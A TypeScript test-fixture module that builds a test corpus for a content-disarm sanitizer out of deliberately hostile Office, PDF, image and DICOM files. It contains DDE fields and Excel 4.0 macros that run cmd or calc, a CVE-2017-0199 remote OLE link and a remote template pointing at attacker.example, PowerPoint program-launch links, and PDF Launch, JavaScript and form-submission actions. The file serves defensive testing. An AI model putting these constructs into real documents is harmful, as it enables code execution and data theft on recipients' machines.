/**
 * The content-disarm (CDR) test corpus, built at test time from each format's rules: Office
 * packages written part by part (the smallest documents LibreOffice opens, plus the active
 * content attackers use), PDFs assembled with pdf-lib's object layer, images from sharp with
 * EXIF and bytes appended, a DICOM file written element by element, CSV in UTF-8 and
 * Shift_JIS. Nothing here runs anything: the "commands" are inert strings.
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict } from 'pdf-lib';
import sharp from 'sharp';
import { dicomElement, zipOf, type ZipItem } from './sanitize-corpus';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MSREL = 'http://schemas.microsoft.com/office/2006/relationships';
const PKG_RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const CT = 'http://schemas.openxmlformats.org/package/2006/content-types';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** An OLE compound file's signature and enough bytes to look like one (the rebuilder goes by its magic). */
export const OLE_BYTES = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);

interface Rel {
  readonly id: string;
  readonly type: string;
  readonly target: string;
  readonly external?: boolean;
}

function rels(list: readonly Rel[]): string {
  const items = list
    .map(
      (r) => `<Relationship Id="${r.id}" Type="${r.type}" Target="${escapeXml(r.target)}"${r.external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('');
  return `${XML}<Relationships xmlns="${PKG_RELS}">${items}</Relationships>`;
}

function contentTypes(defaults: Readonly<Record<string, string>>, overrides: Readonly<Record<string, string>>): string {
  const d = Object.entries({ rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...defaults }).map(
    ([e, t]) => `<Default Extension="${e}" ContentType="${t}"/>`,
  );
  const o = Object.entries(overrides).map(([part, t]) => `<Override PartName="/${part}" ContentType="${t}"/>`);
  return `${XML}<Types xmlns="${CT}">${d.join('')}${o.join('')}</Types>`;
}

function escapeXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}

const rootRels = (main: string) => rels([{ id: 'rId1', type: `${REL}/officeDocument`, target: main }]);

/** A docm carrying every kind of active and external content Word knows, around three paragraphs of text. */
export async function dangerousDocx(): Promise<Buffer> {
  const document = `${XML}<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>
<w:p><w:r><w:t>Service report 2024</w:t></w:r></w:p>
<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>complex result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:altChunk r:id="rId3"/>
<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId4"/></w:object></w:r></w:p>
<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" ObjectID="_2" r:id="rId5" UpdateMode="Always"/></w:object></w:r></w:p>
<w:p><w:hyperlink r:id="rId6"><w:r><w:t>Manual</w:t></w:r></w:hyperlink></w:p>
<w:p><w:hyperlink r:id="rId7"><w:r><w:t>Run</w:t></w:r></w:hyperlink></w:p>
<w:p><w:hyperlink r:id="rId8"><w:r><w:t>Share</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:object><w:control r:id="rId9" w:name="CommandButton1"/></w:object></w:r></w:p>
<w:sectPr/></w:body></w:document>`;
  const parts: ZipItem[] = [
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        { htm: 'text/html', png: 'image/png' },
        {
          'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
          'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
          'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject',
          'word/vbaData.xml': 'application/vnd.ms-word.vbaData+xml',
          'word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml',
          'word/activeX/activeX1.bin': 'application/vnd.ms-office.activeX',
        },
      ),
    },
    { name: '_rels/.rels', data: rootRels('word/document.xml') },
    { name: 'word/document.xml', data: document },
    {
      name: 'word/_rels/document.xml.rels',
      data: rels([
        { id: 'rId1', type: `${REL}/settings`, target: 'settings.xml' },
        { id: 'rId2', type: `${MSREL}/vbaProject`, target: 'vbaProject.bin' },
        { id: 'rId3', type: `${REL}/aFChunk`, target: 'afchunk.htm' },
        // An OLE Package under a part name that says "picture".
        { id: 'rId4', type: `${REL}/oleObject`, target: 'media/image9.png' },
        // CVE-2017-0199: an OLE link fetched when the document opens.
        { id: 'rId5', type: `${REL}/oleObject`, target: 'http://attacker.example/payload.rtf', external: true },
        { id: 'rId6', type: `${REL}/hyperlink`, target: 'https://example.com/manual', external: true },
        { id: 'rId7', type: `${REL}/hyperlink`, target: 'file:///C:/Windows/System32/calc.exe', external: true },
        { id: 'rId8', type: `${REL}/hyperlink`, target: '\\\\attacker.example\\share\\x.exe', external: true },
        { id: 'rId9', type: `${REL}/control`, target: 'activeX/activeX1.xml' },
      ]),
    },
    { name: 'word/settings.xml', data: `${XML}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>` },
    {
      name: 'word/_rels/settings.xml.rels',
      data: rels([{ id: 'rId1', type: `${REL}/attachedTemplate`, target: 'http://attacker.example/template.dotm', external: true }]),
    },
    { name: 'word/vbaProject.bin', data: OLE_BYTES },
    { name: 'word/_rels/vbaProject.bin.rels', data: rels([{ id: 'rId1', type: `${MSREL}/wordVbaData`, target: 'vbaData.xml' }]) },
    { name: 'word/vbaData.xml', data: `${XML}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>` },
    {
      name: 'word/afchunk.htm',
      data: '<html><body><script>new ActiveXObject("WScript.Shell").Run("calc")</script><p>chunk</p></body></html>',
    },
    { name: 'word/media/image9.png', data: OLE_BYTES },
    {
      name: 'word/activeX/activeX1.xml',
      data: `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${R}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>`,
    },
    {
      name: 'word/activeX/_rels/activeX1.xml.rels',
      data: rels([{ id: 'rId1', type: `${MSREL}/activeXControlBinary`, target: 'activeX1.bin' }]),
    },
    { name: 'word/activeX/activeX1.bin', data: Buffer.alloc(64, 1) },
  ];
  return zipOf(parts);
}

/** A plain docx with text, a web link and a page number only: nothing to remove. */
export async function cleanDocx(): Promise<Buffer> {
  const document = `${XML}<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body><w:p><w:r><w:t>Clean report</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId1"><w:r><w:t>Manual</w:t></w:r></w:hyperlink></w:p><w:sectPr/></w:body></w:document>`;
  return zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes({}, { 'word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml' }),
    },
    { name: '_rels/.rels', data: rootRels('word/document.xml') },
    { name: 'word/document.xml', data: document },
    {
      name: 'word/_rels/document.xml.rels',
      data: rels([{ id: 'rId1', type: `${REL}/hyperlink`, target: 'https://example.com/manual', external: true }]),
    },
  ]);
}

/** An xlsx with an Excel 4.0 macro sheet run by Auto_Open and a DDE link to cmd. */
export async function dangerousXlsx(): Promise<Buffer> {
  return zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        {},
        {
          'xl/workbook.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
          'xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
          'xl/macrosheets/sheet2.xml': 'application/vnd.ms-excel.macrosheet+xml',
          'xl/externalLinks/externalLink1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        },
      ),
    },
    { name: '_rels/.rels', data: rootRels('xl/workbook.xml') },
    {
      name: 'xl/workbook.xml',
      data: `${XML}<workbook xmlns="${S}" xmlns:r="${R}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Pressure">Data!$B$1</definedName></definedNames></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data: rels([
        { id: 'rId1', type: `${REL}/worksheet`, target: 'worksheets/sheet1.xml' },
        { id: 'rId2', type: `${MSREL}/xlMacrosheet`, target: 'macrosheets/sheet2.xml' },
        { id: 'rId3', type: `${REL}/externalLink`, target: 'externalLinks/externalLink1.xml' },
      ]),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: `${XML}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Pressure</t></is></c><c r="B1"><v>42</v></c></row></sheetData></worksheet>`,
    },
    {
      name: 'xl/macrosheets/sheet2.xml',
      data: `${XML}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      data: `${XML}<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
    },
  ]);
}

const THEME = `${XML}<a:theme xmlns:a="${A}" name="T"><a:themeElements><a:clrScheme name="C"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1><a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4><a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink><a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme><a:fontScheme name="F"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="M"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="25400"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="38100"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;
const GROUP = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
const CLR_MAP =
  '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>';

/** A one-slide pptx whose title runs a program on click (ppaction://program) and links to a local executable. */
export async function dangerousPptx(): Promise<Buffer> {
  const ns = `xmlns:a="${A}" xmlns:r="${R}" xmlns:p="${P}"`;
  const slide = `${XML}<p:sld ${ns}><p:cSld><p:spTree>${GROUP}<p:sp><p:nvSpPr><p:cNvPr id="2" name="Title"><a:hlinkClick r:id="" action="ppaction://program?c:\\windows\\system32\\calc.exe"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="6000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US" sz="2800"><a:hlinkClick r:id="rId2"/></a:rPr><a:t>Maintenance plan</a:t></a:r></a:p><a:p><a:r><a:rPr lang="en-US"><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></a:rPr><a:t>Next</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>`;
  return zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        {},
        {
          'ppt/presentation.xml': 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
          'ppt/slides/slide1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slide+xml',
          'ppt/slideLayouts/slideLayout1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml',
          'ppt/slideMasters/slideMaster1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml',
          'ppt/theme/theme1.xml': 'application/vnd.openxmlformats-officedocument.theme+xml',
        },
      ),
    },
    { name: '_rels/.rels', data: rootRels('ppt/presentation.xml') },
    {
      name: 'ppt/presentation.xml',
      data: `${XML}<p:presentation ${ns}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      data: rels([
        { id: 'rId1', type: `${REL}/slideMaster`, target: 'slideMasters/slideMaster1.xml' },
        { id: 'rId2', type: `${REL}/slide`, target: 'slides/slide1.xml' },
        { id: 'rId3', type: `${REL}/theme`, target: 'theme/theme1.xml' },
      ]),
    },
    {
      name: 'ppt/slideMasters/slideMaster1.xml',
      data: `${XML}<p:sldMaster ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld>${CLR_MAP}<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`,
    },
    {
      name: 'ppt/slideMasters/_rels/slideMaster1.xml.rels',
      data: rels([
        { id: 'rId1', type: `${REL}/slideLayout`, target: '../slideLayouts/slideLayout1.xml' },
        { id: 'rId2', type: `${REL}/theme`, target: '../theme/theme1.xml' },
      ]),
    },
    {
      name: 'ppt/slideLayouts/slideLayout1.xml',
      data: `${XML}<p:sldLayout ${ns}><p:cSld><p:spTree>${GROUP}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>`,
    },
    {
      name: 'ppt/slideLayouts/_rels/slideLayout1.xml.rels',
      data: rels([{ id: 'rId1', type: `${REL}/slideMaster`, target: '../slideMasters/slideMaster1.xml' }]),
    },
    { name: 'ppt/theme/theme1.xml', data: THEME },
    { name: 'ppt/slides/slide1.xml', data: slide },
    {
      name: 'ppt/slides/_rels/slide1.xml.rels',
      data: rels([
        { id: 'rId1', type: `${REL}/slideLayout`, target: '../slideLayouts/slideLayout1.xml' },
        { id: 'rId2', type: `${REL}/hyperlink`, target: 'file:///C:/Windows/System32/calc.exe', external: true },
      ]),
    },
  ]);
}

// ─── PDF ─────────────────────────────────────────────────────────────────────────────

export type PdfActiveContent =
  | 'open-action-js'
  | 'names-js'
  | 'page-aa'
  | 'launch'
  | 'submit-form'
  | 'import-data'
  | 'uri'
  | 'gotor'
  | 'gotoe'
  | 'xfa'
  | 'embedded-file'
  | 'file-attachment'
  | 'rich-media';

/** A one-page PDF with text and the chosen active content, written without object streams. */
export async function pdfWith(active: readonly PdfActiveContent[]): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([300, 200]);
  page.drawText('Inspection record', { x: 20, y: 150, size: 18, font: await document.embedFont(StandardFonts.Helvetica) });
  const { context, catalog } = document;
  const js = (code: string) => context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
  const annots: PDFDict[] = [];
  const link = (action: Record<string, unknown>) =>
    annots.push(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10, 10, 100, 40], Border: [0, 0, 0], A: context.obj(action as never) }),
    );
  const names = context.obj({});
  for (const item of active) {
    if (item === 'open-action-js') catalog.set(PDFName.of('OpenAction'), js('app.alert("open")'));
    if (item === 'names-js') names.set(PDFName.of('JavaScript'), context.obj({ Names: [PDFString.of('init'), js('app.alert("init")')] }));
    if (item === 'page-aa') page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("page")') }));
    if (item === 'launch')
      link({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') } });
    if (item === 'submit-form') link({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://attacker.example/collect') } });
    if (item === 'import-data') link({ S: 'ImportData', F: PDFString.of('\\\\attacker.example\\share\\data.fdf') });
    if (item === 'uri') link({ S: 'URI', URI: PDFString.of('http://attacker.example/') });
    if (item === 'gotor') link({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\other.pdf'), D: [0, PDFName.of('Fit')] });
    if (item === 'gotoe') link({ S: 'GoToE', T: { R: 'C', N: PDFString.of('x') } });
    if (item === 'xfa')
      catalog.set(
        PDFName.of('AcroForm'),
        context.obj({
          Fields: [],
          XFA: context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')),
        }),
      );
    if (item === 'embedded-file') {
      const file = context.register(context.stream('MZ inert payload', { Type: 'EmbeddedFile' }));
      names.set(
        PDFName.of('EmbeddedFiles'),
        context.obj({ Names: [PDFString.of('tool.exe'), context.obj({ Type: 'Filespec', F: PDFString.of('tool.exe'), EF: { F: file } })] }),
      );
    }
    if (item === 'file-attachment') {
      const file = context.register(context.stream('inert attachment', { Type: 'EmbeddedFile' }));
      annots.push(
        context.obj({
          Type: 'Annot',
          Subtype: 'FileAttachment',
          Rect: [200, 10, 220, 30],
          FS: { Type: 'Filespec', F: PDFString.of('a.hta'), EF: { F: file } },
        }),
      );
    }
    if (item === 'rich-media') annots.push(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [230, 10, 260, 30] }));
  }
  if (names.keys().length > 0) catalog.set(PDFName.of('Names'), names);
  if (annots.length > 0) page.node.set(PDFName.of('Annots'), context.obj(annots.map((a) => context.register(a))));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

// ─── Images ──────────────────────────────────────────────────────────────────────────

/** Pixels with structure (a gradient and a square), so a changed pixel shows. */
export function testPixels(width = 32, height = 24): Buffer {
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      const inSquare = x > 8 && x < 20 && y > 6 && y < 16;
      pixels[i] = (x * 8) & 0xff;
      pixels[i + 1] = inSquare ? 255 : (y * 10) & 0xff;
      pixels[i + 2] = inSquare ? 0 : 128;
    }
  }
  return pixels;
}

export const APPENDED = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.from('appended archive: run.hta')]);

export async function pngWithExtras(): Promise<Buffer> {
  const png = await sharp(testPixels(), { raw: { width: 32, height: 24, channels: 3 } })
    .withExif({ IFD0: { ImageDescription: 'patient room 3', Software: 'camera' } })
    .png()
    .toBuffer();
  return Buffer.concat([png, APPENDED]);
}

export async function jpegWithExtras(): Promise<Buffer> {
  const jpeg = await sharp(testPixels(), { raw: { width: 32, height: 24, channels: 3 } })
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { ImageDescription: 'patient room 3' } })
    .jpeg({ quality: 90 })
    .toBuffer();
  return Buffer.concat([jpeg, APPENDED]);
}

export const XMP =
  '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>patient room 3</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';

/** A TIFF with an XMP packet (sharp writes no EXIF into TIFF). */
export async function tiffWithXmp(): Promise<Buffer> {
  return sharp(testPixels(), { raw: { width: 32, height: 24, channels: 3 } })
    .withXmp(XMP)
    .tiff({ compression: 'lzw' })
    .toBuffer();
}

/** A 24-bit BMP (bottom-up, BITMAPINFOHEADER) with junk in its row padding and bytes appended. */
export function bmpWithExtras(width = 5, height = 3): { bmp: Buffer; pixels: Buffer } {
  const rowBytes = width * 3;
  const stride = Math.ceil(rowBytes / 4) * 4;
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  const data = Buffer.alloc(stride * height, 0x7a); // padding bytes are 'z', not zero
  const pixels = Buffer.alloc(rowBytes * height);
  for (let row = 0; row < height; row++)
    for (let i = 0; i < rowBytes; i++) data[row * stride + i] = pixels[row * rowBytes + i] = (row * 40 + i * 7) & 0xff;
  const bmp = Buffer.concat([header, data, APPENDED]);
  bmp.writeUInt32LE(bmp.length, 2);
  return { bmp, pixels };
}

// ─── DICOM ───────────────────────────────────────────────────────────────────────────

/** One element as sanitize-corpus writes it, its value padded to an even length as DICOM requires. */
function element(group: number, elem: number, vr: string, value: Buffer): Buffer {
  const padded = value.length % 2 === 0 ? value : Buffer.concat([value, Buffer.from(vr === 'UI' || vr === 'OB' ? '\0' : ' ')]);
  return dicomElement(group, elem, vr, padded);
}

function ul(value: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(value, 0);
  return b;
}

/**
 * An explicit-VR little-endian DICOM Encapsulated PDF (PS3.3 A.45): an "MZ" preamble, the
 * PDF in (0042,0011) with its length in (0042,0015), and `appended` after the data set.
 */
export function dicomWithPdf(pdf: Buffer, appended: Buffer = Buffer.alloc(0)): Buffer {
  const preamble = Buffer.alloc(128);
  preamble.write('MZ', 0, 'latin1');
  const metaElements = Buffer.concat([
    element(0x0002, 0x0001, 'OB', Buffer.from([0, 1])),
    element(0x0002, 0x0002, 'UI', Buffer.from('1.2.840.10008.5.1.4.1.1.104.1')),
    element(0x0002, 0x0003, 'UI', Buffer.from('1.2.3.4.5')),
    element(0x0002, 0x0010, 'UI', Buffer.from('1.2.840.10008.1.2.1')),
  ]);
  const meta = Buffer.concat([element(0x0002, 0x0000, 'UL', ul(metaElements.length)), metaElements]);
  const dataset = Buffer.concat([
    element(0x0008, 0x0016, 'UI', Buffer.from('1.2.840.10008.5.1.4.1.1.104.1')),
    element(0x0010, 0x0010, 'PN', Buffer.from('TEST^PHANTOM')),
    element(0x0042, 0x0011, 'OB', pdf),
    element(0x0042, 0x0012, 'LO', Buffer.from('application/pdf')),
    element(0x0042, 0x0015, 'UL', ul(pdf.length)),
  ]);
  return Buffer.concat([preamble, Buffer.from('DICM', 'latin1'), meta, dataset, appended]);
}

/** The value of (0042,0011) in a DICOM file written by dicomWithPdf (or rebuilt from one), and (0042,0015). */
export function encapsulatedDocument(dicom: Buffer): { value: Buffer; declaredLength: number; elementLength: number } {
  const at = dicom.indexOf(Buffer.from([0x42, 0x00, 0x11, 0x00, 0x4f, 0x42]));
  const length = dicom.readUInt32LE(at + 8);
  const lengthAt = dicom.indexOf(Buffer.from([0x42, 0x00, 0x15, 0x00, 0x55, 0x4c]));
  return { value: dicom.subarray(at + 12, at + 12 + length), declaredLength: dicom.readUInt32LE(lengthAt + 8), elementLength: length };
}

// ─── CSV ─────────────────────────────────────────────────────────────────────────────

/** "圧力" and "測定" in Shift_JIS (checked against TextDecoder('shift_jis') by the tests). */
export const SJIS_PRESSURE = Buffer.from('88b397cd', 'hex');
export const SJIS_MEASUREMENT = Buffer.from('91aa92e8', 'hex');
